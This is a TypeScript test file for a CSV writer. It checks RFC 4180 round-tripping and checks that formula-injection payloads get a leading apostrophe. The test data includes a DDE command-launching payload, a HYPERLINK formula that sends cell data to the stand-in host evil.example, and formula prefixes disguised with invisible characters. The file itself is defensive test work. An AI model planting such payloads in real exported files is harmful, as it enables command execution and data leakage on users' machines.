import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { writeCsv } from "./csv.ts";

/** RFC 4180, by the letter: an independent reader. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let [row, cell, isQuoted, at] = [[] as string[], "", false, 0];
  while (at < text.length) {
    const character = text[at++];
    if (isQuoted) {
      if (character !== '"') cell += character;
      else if (text[at] === '"') {
        cell += '"';
        at++;
      } else isQuoted = false;
    } else if (character === '"') isQuoted = true;
    else if (character === ",") {
      row.push(cell);
      cell = "";
    } else if (character === "\r" && text[at] === "\n") {
      at++;
      rows.push([...row, cell]);
      [row, cell] = [[], ""];
    } else cell += character;
  }
  assert.equal(cell, "");
  return rows;
}

const evil = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "|cmd",
  "%x",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  '"=1',
  "'=1",
  "＝1+1",
  "\u200b=1",
  "\ufeff@x",
];

test("attack 66: no cell begins as a formula does, whatever stands before it", () => {
  const dde = `=cmd|' /C calc'!A0`;
  for (const payload of [...evil, dde, `=HYPERLINK("http://evil.example?"&A1,"x")`, "=IMPORTXML(A1)"]) {
    const [, [cell = ""] = []] = readCsv(writeCsv(["name"], [[payload]]));
    assert.equal(cell, `'${payload}`, JSON.stringify(payload));
  }
});

test("a table is read back as it was written, but for the apostrophe before a formula", () => {
  const text = fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom(...evil, 'a"b', "a,b", "a\r\nb", "", " x "));
  const cell = fc.oneof(text, fc.integer(), fc.boolean(), fc.constant(undefined));
  const table = fc
    .integer({ min: 1, max: 5 })
    .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width })));
  fc.assert(
    fc.property(table, (rows) => {
      const width = rows[0]?.length ?? 1;
      const [head, ...read] = readCsv(
        writeCsv(
          Array.from({ length: width }, (_, index) => `h${index}`),
          rows,
        ),
      );
      assert.equal(head?.length, width);
      assert.equal(read.length, rows.length);
      for (const [at, row] of rows.entries())
        for (const [column, value] of row.entries()) {
          const got = read[at]?.[column] ?? "";
          if (typeof value !== "string") assert.equal(got, value === undefined ? "" : String(value));
          else assert.ok(got === value || got === `'${value}`, JSON.stringify(value));
          if (typeof value === "string") assert.doesNotMatch(got, /^[=+\-@\t\r\n]/);
        }
    }),
  );
});

test("numbers stay numbers, below zero too", () => {
  assert.equal(
    writeCsv(
      ["a", "b"],
      [
        [-1.5, true],
        [null, undefined],
      ],
    ),
    "a,b\r\n-1.5,true\r\n,\r\n",
  );
});
